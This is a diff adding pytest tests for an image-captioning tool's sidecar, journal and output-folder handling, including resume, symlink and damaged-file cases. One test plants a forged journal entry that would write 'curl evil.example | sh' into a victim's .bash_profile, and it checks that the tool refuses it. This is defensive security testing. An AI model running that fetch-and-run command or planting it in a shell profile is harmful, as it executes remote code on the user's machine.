@@ -7,6 +7,7 @@ import json
 import os
 import subprocess
 import sys
+import zlib
 from collections.abc import Callable
 from pathlib import Path
 
@@ -340,3 +341,252 @@ def test_pictures_whose_sidecar_has_no_place(tmp_path: Path) -> None:
             sink.wants(Source("http://x.org/a.png", url="http://x.org/a.png"))
         with pytest.raises(BadOutput, match="named like a sidecar"):
             sink.wants(Source("x.txt", path=tmp_path / "x.txt"))
+
+
+def test_a_finished_append_that_is_resumed_changes_nothing(tmp_path: Path) -> None:
+    items = results(tmp_path, ["1.png", "2.png"])
+    (tmp_path / "1.txt").write_text("mine\n")
+    write(Sidecars([str(tmp_path)], "append"), items[:1])
+    for _ in range(2):
+        write(Sidecars([str(tmp_path)], "append", resume=True), items)
+        assert (tmp_path / "1.txt").read_text() == "mine, prompt 0\n"
+        assert (tmp_path / "2.txt").read_text() == "prompt 1\n"
+    write(Sidecars([str(tmp_path)], "append"), items[:1])  # asked for anew
+    assert (tmp_path / "1.txt").read_text() == "mine, prompt 0, prompt 0\n"
+
+
+def test_a_journal_in_a_folder_of_pictures_is_not_believed(tmp_path: Path) -> None:
+    [item] = results(tmp_path / "in", ["1.png"])
+    victim = tmp_path / ".bash_profile"
+    for name in ("x.jpg", str(item.source.path)):
+        row = {"file": name, "sidecar": str(victim), "before": None, "after": "curl evil.example | sh\n"}
+        (tmp_path / "in" / "captioner-sidecars.part").write_text(json.dumps(row) + "\n")
+        write(Sidecars([str(tmp_path / "in")], "overwrite"), [item])
+        assert not victim.exists()
+        assert (tmp_path / "in" / "1.txt").read_text() == "prompt 0\n"
+
+
+def test_no_sidecar_is_written_through_a_link_out_of_the_folder(tmp_path: Path) -> None:
+    items = results(tmp_path / "in", ["1.png", "2.png", "3.png"])
+    victim = tmp_path / "profile"
+    (tmp_path / "in" / "1.txt").symlink_to(victim)
+    for on_existing in ("skip", "overwrite", "append", "prepend"):
+        with Sidecars([str(tmp_path / "in")], on_existing) as sink, pytest.raises(BadOutput, match="leads out"):
+            sink.wants(items[0].source)
+    assert not victim.exists()
+    victim.write_text("mine")
+    with Sidecars([str(tmp_path / "in")], "overwrite") as sink, pytest.raises(BadOutput, match="leads out"):
+        sink.wants(items[0].source)
+    (tmp_path / "in" / "2.txt").symlink_to("two.txt")  # within the folder it is the user's own arrangement
+    write(Sidecars([str(tmp_path / "in")], "overwrite"), items[1:2])
+    assert (tmp_path / "in" / "2.txt").is_symlink()
+    assert (tmp_path / "in" / "two.txt").read_text() == "prompt 1\n"
+    temporary = f".captioner-{zlib.crc32(b'3.txt'):08x}.tmp"
+    (tmp_path / "in" / temporary).symlink_to(victim)  # what was once the name of an unfinished file
+    write(Sidecars([str(tmp_path / "in")], "overwrite"), items[2:])
+    assert victim.read_text() == "mine"
+
+
+def test_an_odd_sidecar_is_the_failure_of_its_picture(tmp_path: Path) -> None:
+    items = results(tmp_path, ["1.png", "2.png", "3.png", "4.png"])
+    (tmp_path / "1.txt").mkdir()
+    os.mkfifo(tmp_path / "2.txt")
+    with open(tmp_path / "3.txt", "wb") as large:
+        large.truncate(1 << 40)
+    for on_existing in ("overwrite", "append"):
+        with Sidecars([str(tmp_path)], on_existing) as sink:
+            for item, reason in zip(items, ("not a file", "not a file", "larger"), strict=False):
+                with pytest.raises(BadOutput, match=reason):
+                    sink.wants(item.source)
+            assert sink.wants(items[3].source)
+
+
+def test_a_sidecar_keeps_its_mode(tmp_path: Path) -> None:
+    [item] = results(tmp_path, ["1.png"])
+    (tmp_path / "1.txt").write_text("mine")
+    (tmp_path / "1.txt").chmod(0o640)
+    write(Sidecars([str(tmp_path)], "append"), [item])
+    assert (tmp_path / "1.txt").stat().st_mode & 0o777 == 0o640
+
+
+def test_an_unfinished_append_is_not_taken_for_a_run_that_skips(tmp_path: Path) -> None:
+    items = results(tmp_path, ["1.png", "2.png"])
+    interrupted(Sidecars([str(tmp_path)], "append"), items[:1])
+    with pytest.raises(BadOutput, match="unfinished run"):
+        Sidecars([str(tmp_path)])
+    with pytest.raises(BadOutput, match="on existing was append and is now overwrite"):
+        Sidecars([str(tmp_path)], "overwrite", resume=True)
+    others = results(tmp_path / "other", ["1.png", "2.png"])
+    interrupted(Sidecars([str(tmp_path / "other")], "skip"), others[:1])
+    write(Sidecars([str(tmp_path / "other")], "skip"), others)
+    assert (tmp_path / "other" / "2.txt").read_text() == "prompt 1\n"
+
+
+# --- settings, and names of pictures ---------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", ["a.jsonl", "a.csv", "a.parquet", "set"])
+@pytest.mark.parametrize("finished", [True, False])
+def test_rows_of_other_settings_are_not_mixed(tmp_path: Path, name: str, finished: bool) -> None:
+    items = results(tmp_path / "in", ["1.png", "2.png"])
+    out = tmp_path / name
+    begun = open_out(out, settings={"model": "mini", "num_beams": 2})
+    (write if finished else interrupted)(begun, items[:1])
+    before = content(tmp_path)
+    with pytest.raises(BadOutput, match=r"model was mini and is now blip; num_beams was 2 and is now not given.*--out"):
+        open_out(out, resume=True, settings={"model": "blip"})
+    assert content(tmp_path) == before
+    write(open_out(out, resume=True, settings={"num_beams": 2, "model": "mini"}), items)
+    whole = {path: data for path, data in content(out).items() if "run.json" not in path}
+    write(open_out(tmp_path / f"plain-{name}"), items)
+    assert [*whole.values()] == [*content(tmp_path / f"plain-{name}").values()]
+    if name == "set":
+        import datasets
+
+        folder, cache = str(out), str(tmp_path / "cache")
+        read = datasets.load_dataset("imagefolder", data_dir=folder, cache_dir=cache)["train"]
+        assert sorted(read["text"]) == ["prompt 0", "prompt 1"]
+
+
+def test_overwriting_takes_the_new_settings(tmp_path: Path) -> None:
+    items = results(tmp_path / "in", ["1.png"])
+    for settings in ({"model": "mini"}, {"model": "blip"}):
+        write(open_out(tmp_path / "a.csv", overwrite=True, settings=settings), items)
+        write(open_out(tmp_path / "a.csv", resume=True, settings=settings), items)
+
+
+@pytest.mark.parametrize("finished", [True, False])
+def test_a_picture_is_the_same_by_its_relative_and_its_absolute_name(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, finished: bool
+) -> None:
+    absolute = results(tmp_path / "in", ["1.png", "2.png"])
+    names = [os.path.relpath(item.source.path, tmp_path) for item in absolute]
+    relative = [
+        Result(Source(name, path=Path(name)), item.row | {"file": name})
+        for name, item in zip(names, absolute, strict=True)
+    ]
+    monkeypatch.chdir(tmp_path)
+    (write if finished else interrupted)(open_out(Path("a.csv"), settings={"model": "mini"}), relative[:1])
+    (tmp_path / "elsewhere").mkdir()
+    monkeypatch.chdir("elsewhere")
+    sink = open_out(Path("../a.csv"), resume=True, settings={"model": "mini"})
+    with sink:
+        assert not sink.wants(absolute[0].source)
+        assert sink.wants(absolute[1].source)
+        with pytest.raises(BadOutput, match="named from"):
+            sink.wants(Source("in/1.png", path=Path("in/1.png")))
+        sink.write(absolute[1:])
+    with open(tmp_path / "a.csv", encoding="utf-8", newline="") as stream:
+        assert [row["file"] for row in csv.DictReader(stream)] == [names[0], str(absolute[1].source.path)]
+
+
+# --- what is the user's own ------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("kind", ["text", "folder", "link"])
+def test_a_list_of_errors_that_is_not_ours_is_left_alone(tmp_path: Path, kind: str) -> None:
+    (tmp_path / "mine").write_text("mine\n")
+
+    def plant(path: Path) -> None:
+        if kind == "text":
+            path.write_text("mine\n")
+        elif kind == "folder":
+            path.mkdir()
+        else:
+            path.symlink_to(tmp_path / "mine")
+
+    plant(tmp_path / "a.jsonl.errors.jsonl")
+    plant(tmp_path / "captioner-errors.jsonl")
+    for settings in ({}, {"resume": True}, {"overwrite": True}):
+        with pytest.raises(BadOutput, match="not a list of errors"):
+            open_out(tmp_path / "a.jsonl", **settings)
+    with pytest.raises(BadOutput, match="not a list of errors"):
+        Sidecars([str(tmp_path)])
+    assert (tmp_path / "mine").read_text() == "mine\n"
+    assert sorted(os.listdir(tmp_path)) == ["a.jsonl.errors.jsonl", "captioner-errors.jsonl", "mine"]
+
+
+@pytest.mark.parametrize("text", ["mine\n", "5\n", '{"file": 5}\n', '{"file": "a.png", "text": "a"}\n', "mine"])
+def test_a_journal_that_is_not_ours_is_left_alone(tmp_path: Path, text: str) -> None:
+    (tmp_path / "a.jsonl.part").write_text(text)
+    for settings in ({}, {"resume": True}, {"overwrite": True}):
+        with pytest.raises(BadOutput, match="not written by this command"):
+            open_out(tmp_path / "a.jsonl", **settings)
+        assert (tmp_path / "a.jsonl.part").read_text() == text
+
+
+@pytest.mark.parametrize("damage", [b"5\n", b'{"file": 5}\n', b"[" * 9999 + b"\n", bytes(99), b"\xff\n"])
+def test_a_damaged_journal_is_cut_where_the_damage_begins(tmp_path: Path, damage: bytes) -> None:
+    items = results(tmp_path / "in", ["1.png", "2.png"])
+    interrupted(FileSink(tmp_path / "a.jsonl"), items[:1])
+    with open(tmp_path / "a.jsonl.part", "ab") as stream:
+        stream.write(damage)
+    write(FileSink(tmp_path / "a.jsonl", resume=True), items)
+    assert len((tmp_path / "a.jsonl").read_text().splitlines()) == 2
+
+
+@pytest.mark.parametrize("cut", [0, 1, 20, None])
+def test_a_folder_is_resumable_whatever_was_left(tmp_path: Path, cut: int | None) -> None:
+    """Stopped before its first row, or all pictures were bad."""
+    items = results(tmp_path / "in", ["1.png"])
+    out = tmp_path / "set"
+    with ImageFolder(out, settings={"model": "mini"}) as sink:
+        sink.fail("bad.png", "bad.png is empty.")
+    (out / "1.png").write_bytes(items[0].source.path.read_bytes())  # copied, its row not written
+    (out / ".captioner-00000000-1-00.tmp").touch()
+    part = out / "metadata.jsonl.part"
+    part.write_bytes(part.read_bytes()[:cut])
+    with pytest.raises(BadOutput, match="--resume"):
+        ImageFolder(out)
+    write(ImageFolder(out, resume=True, settings={"model": "mini"}), items)
+    assert [json.loads(line)["file_name"] for line in (out / "metadata.jsonl").read_text().splitlines()] == ["1.png"]
+    assert not part.exists()
+
+
+def test_a_folder_that_only_holds_a_list_of_errors_is_resumable(tmp_path: Path) -> None:
+    (tmp_path / "set").mkdir()
+    (tmp_path / "set" / "errors.jsonl").write_text('{"file": "a", "error": "b"}\n')
+    write(ImageFolder(tmp_path / "set", resume=True), results(tmp_path / "in", ["1.png"]))
+    (tmp_path / "set" / "metadata.jsonl").read_text()
+
+
+@pytest.mark.parametrize("name", ["é" * 200 + ".jsonl", "a" * 240 + ".csv", "a" * 300])
+def test_a_name_that_is_too_long_is_said_at_once(tmp_path: Path, name: str) -> None:
+    with pytest.raises(BadOutput, match="too long"):
+        open_out(tmp_path / name)
+    assert not os.listdir(tmp_path)
+
+
+def test_a_long_field_of_a_csv_is_read_again_and_the_limit_is_as_before(tmp_path: Path) -> None:
+    before = csv.field_size_limit()
+    items = results(tmp_path / "in", ["1.png", "2.png"])
+    items[0].row["text"] = "a" * (17 << 20)
+    write(FileSink(tmp_path / "a.csv"), items[:1])
+    write(FileSink(tmp_path / "a.csv", resume=True), items)
+    assert csv.field_size_limit() == before
+
+
+def test_no_line_of_json_holds_nan() -> None:
+    row = {"file": "a", "cfg_scale": float("nan"), "more": [float("inf"), {"x": float("-inf")}]}
+    assert json.loads(to_json(row), parse_constant=pytest.fail) == {
+        "file": "a",
+        "cfg_scale": None,
+        "more": [None, {"x": None}],
+    }
+
+
+def test_the_journal_is_on_the_disk_before_a_sidecar_changes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    [item] = results(tmp_path, ["1.png"])
+    flushed = []
+    fsync = os.fsync
+
+    def watched(descriptor: int) -> None:
+        fsync(descriptor)
+        flushed.append((os.stat(descriptor).st_ino, (tmp_path / "1.txt").exists()))
+
+    monkeypatch.setattr(os, "fsync", watched)
+    with Sidecars([str(tmp_path)], "append") as sink:
+        assert sink.wants(item.source)
+        flushed.clear()
+        sink.write([item])
+        assert flushed[0] == (sink.journal.path.stat().st_ino, False)
